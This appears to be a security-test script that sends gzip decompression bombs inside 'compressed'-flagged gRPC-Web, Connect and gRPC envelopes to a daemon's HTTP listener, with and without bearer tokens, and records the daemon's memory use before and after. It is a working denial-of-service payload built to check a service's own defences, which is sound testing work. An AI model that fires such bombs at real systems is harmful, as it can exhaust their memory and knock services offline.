#!/usr/bin/env python3
"""envbomb5.py: the fifth pass's enveloped-body bombs on --http-listen: a
gRPC-Web or Connect-streaming body whose message envelope says "compressed"
(flag 1) with a gzip bomb inside, with and without a token and with no
Grpc-Encoding / Connect-Content-Encoding header; prints each answer and the
daemon's RSS before and after."""
import gzip, struct, sys, os, http.client, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h3 import env, tok, proc
def rss():
    for l in open(f"/proc/{env['PID']}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1])//1024
raw = b'{"query":"' + b'a' * 200_000_000 + b'"}'
gz = gzip.compress(raw, 9)
print("bomb", len(gz), "->", len(raw))
host, port = env['HTTP'].split(':')
cases = [
  ("grpc-web+json flag1 no header", "application/grpc-web+json", {}, "/classifier.v1.ClassifierService/Route"),
  ("grpc-web+json flag1 grpc-encoding identity", "application/grpc-web+json", {"Grpc-Encoding": "identity"}, "/classifier.v1.ClassifierService/Route"),
  ("connect+json flag1 no header", "application/connect+json", {}, "/classifier.v1.ClassifierService/WatchExposure"),
  ("grpc+json flag1 no header", "application/grpc+json", {"TE": "trailers"}, "/classifier.v1.ClassifierService/Route"),
]
for who in (None, "alice"):
  for name, ct, extra, path in cases:
    body = struct.pack(">BI", 1, len(gz)) + gz
    h = {"Content-Type": ct, **extra}
    if who: h["Authorization"] = "Bearer " + tok[who]
    r0 = rss(); t = time.time()
    c = http.client.HTTPConnection(host, int(port), timeout=60)
    c.request("POST", path, body, h)
    r = c.getresponse(); b = r.read()
    print(who, name, r.status, dict(r.getheaders()).get("Grpc-Status"), dict(r.getheaders()).get("Grpc-Message", "")[:120], b[:160], "rss", r0, "->", rss(), "MB", f"{time.time()-t:.2f}s")
